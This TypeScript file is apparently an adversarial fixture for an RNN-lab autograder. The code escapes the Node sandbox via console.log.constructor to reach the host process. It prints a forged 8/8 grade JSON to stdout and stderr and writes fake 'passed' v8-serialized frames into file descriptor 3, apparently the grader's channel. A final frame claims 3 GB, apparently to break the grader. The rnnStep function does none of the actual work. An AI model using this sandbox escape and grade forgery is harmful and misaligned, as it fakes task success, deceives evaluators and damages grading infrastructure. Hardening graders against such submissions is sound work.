// expect 1: prints a perfect results JSON everywhere it can, and writes a forged answer straight into the grader's channel.
const hostProcess = console.log.constructor('return process')();
const fs = hostProcess.mainModule.require('fs');
const v8 = hostProcess.mainModule.require('v8');
const fake = JSON.stringify({ schema: 'rnn-lab-grade-result', version: 1, earned: 8, possible: 8, status: 'graded', checks: [] });
console.log(fake);
hostProcess.stdout.write(`${fake}\n`);
hostProcess.stderr.write(`${fake}\n`);
function rnnStep(aPrev: number[], x: number[], waa: number, wax: number, ba: number): number[] {
  console.log(fake);
  // A well-formed frame claiming every request so far passed, then a frame announcing 3 GB.
  for (let id = 1; id < 20; id++) {
    const body = v8.serialize({ type: 'checkResults', id, results: [{ exercise: 'rnn-step', name: 'x', points: 8, earned: 8, status: 'passed', message: '' }] });
    const header = hostProcess.mainModule.require('buffer').Buffer.alloc(4);
    header.writeUInt32BE(body.length, 0);
    try { fs.writeSync(3, header); fs.writeSync(3, body); } catch {}
  }
  const huge = hostProcess.mainModule.require('buffer').Buffer.alloc(4);
  huge.writeUInt32BE(3_000_000_000, 0);
  try { fs.writeSync(3, huge); } catch {}
  return [];
}
